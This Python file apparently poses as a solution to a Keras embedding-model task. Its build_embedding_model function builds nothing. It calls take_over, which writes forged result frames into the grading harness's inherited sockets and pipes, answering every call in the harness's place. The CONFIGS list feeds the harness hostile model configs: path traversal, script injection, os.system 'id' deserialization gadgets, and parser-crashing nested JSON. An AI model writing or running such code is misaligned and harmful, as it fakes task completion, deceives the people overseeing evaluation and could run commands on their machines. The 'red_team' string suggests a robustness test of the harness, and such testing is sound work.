import os
import stat
import struct


def sockets():
    """Every inherited descriptor that is a socket or a pipe: one of them is the wire."""
    found = []
    for number in range(3, 256):
        try:
            kind = os.fstat(number).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(kind) or stat.S_ISFIFO(kind):
            found.append(number)
    return found


def write(data):
    for number in sockets():
        view = memoryview(data)
        try:
            while view:
                try:
                    view = view[os.write(number, view) :]
                except BlockingIOError:
                    continue
        except OSError:
            pass


def text(value):
    data = value.encode()
    return b"\xdb" + struct.pack(">I", len(data)) + data


def answer(number, value, blobs=b"\x90", changed=b"\x90", crash=b"\xc0", more=0, printed=b"\xa0"):
    """One frame as the harness would send it, with `value` and the rest as raw MessagePack."""
    header = b"\x87" + text("type") + text("answered") + text("blobs") + blobs + text("number") + struct.pack(">BI", 0xCE, number)
    header += text("value") + value + text("crash") + crash + text("changed") + changed + text("printed") + printed
    return struct.pack(">IQ", len(header), more) + header


def read(size):
    data = b""
    while len(data) < size:
        data += os.read(sockets()[0], size - len(data))
    return data


def take_over(number, make):
    """Answer call `number` and every later one in the harness's place."""
    while True:
        write(make(number))
        lengths = struct.unpack(">IQ", read(12))
        read(sum(lengths))
        number += 1


import json

LAYER = {"module": "keras.layers", "class_name": "Embedding", "registered_name": None, "build_config": {"input_shape": [None, None]}}
CONFIG = {"name": "embedding", "trainable": True, "dtype": "float32", "input_dim": 10, "output_dim": 3, "mask_zero": True}


def sequential(*layers, **more):
    last = {"module": "keras.layers", "class_name": "Flatten", "registered_name": None, "config": {"name": "last"}}  # so that nothing is right by chance
    return json.dumps({"name": "s", "trainable": True, "dtype": "float32", "layers": [*layers, last]} | more)


CONFIGS = [
    sequential(*[LAYER | {"config": CONFIG}] * 2_000),
    sequential(LAYER | {"config": CONFIG | {"input_dim": 10**300, "output_dim": -3}}),
    sequential(LAYER | {"config": CONFIG | {"input_dim": True, "output_dim": "3"}}),
    sequential(LAYER | {"config": CONFIG | {"name": "../../../../tmp/red_team_was_here"}}),
    sequential(LAYER | {"config": CONFIG | {"name": "\x1b[2J<script>alert(1)</script>" * 1000}}),
    sequential(LAYER | {"config": CONFIG, "class_name": "Embedding.__class__", "module": "keras.layers.core"}),
    sequential(LAYER | {"config": CONFIG | {"dtype": {"module": "os", "class_name": "system", "config": {"command": "id"}}}}),
    sequential(LAYER | {"config": CONFIG | {"embeddings_initializer": {"module": "os", "class_name": "system", "config": "id"}}}),
    '{"layers": {"layers": 1}}', '{"layers": null}', '{"layers": [[[]], null, 7, "x"]}',
    # From here on not even readable.
    '{"a": NaN}', sequential(LAYER | {"config": CONFIG | {"input_dim": 777}}).replace("777", "9" * 5_000), "[" * 400_000,
]


def model(number):
    config = CONFIGS[number % len(CONFIGS)]
    weight = b"\x83" + text("path") + text(config[:100]) + text("trainable") + b"\xc3" + text("value")
    weight += b"\x84" + text("type") + text("array") + text("dtype") + text("float32") + text("shape") + b"\x92\x0a\x03" + text("blob") + b"\x00"
    fields = {"type": text("model"), "class_name": text("Sequential"), "problem": text(""), "detail": text(""), "config": text(config), "built": b"\xc3",
              "weights": b"\x91" + weight, "compiled": text(config), "optimizer": text(""), "learning_rate": b"\xc0", "iterations": b"\xc0"}
    tree = bytes([0x80 + len(fields)]) + b"".join(text(name) + value for name, value in fields.items())
    return answer(number, tree, blobs=b"\x91\x78", more=120) + bytes(120)


def build_embedding_model(top_words=10, embedding_vector_length=3, mask_zero=True):
    take_over(1, model)
